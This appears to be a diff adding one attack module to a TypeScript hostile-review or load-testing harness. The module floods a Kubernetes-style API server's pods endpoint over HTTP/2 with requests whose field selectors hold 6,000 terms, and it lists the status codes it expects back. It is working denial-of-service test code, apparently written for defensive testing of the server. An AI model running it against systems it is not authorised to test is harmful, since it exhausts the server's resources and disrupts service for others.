@@ -1,0 +1,16 @@
+// Field selectors of thousands of terms.
+
+import type { Attack } from '../attack.ts'
+import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'
+
+export const attack: Attack = {
+  reference: 'hostile review 6',
+  does: 'asks with field selectors of 120,000 bytes',
+  who: ['known', 'unknown'],
+  answers: ['200', '400', '401', '403', '414', 'RST_STREAM REFUSED_STREAM'],
+  run: (target, signal) => {
+    const terms = new Array<string>(6_000).fill('metadata.name%3Da')
+    const block = head(target, 'GET', `/api/v1/pods?fieldSelector=${terms.join(',')}`)
+    return attackHttp2(target, signal, {}, (connection) => closedLoop(connection, 20, request(block)))
+  },
+}
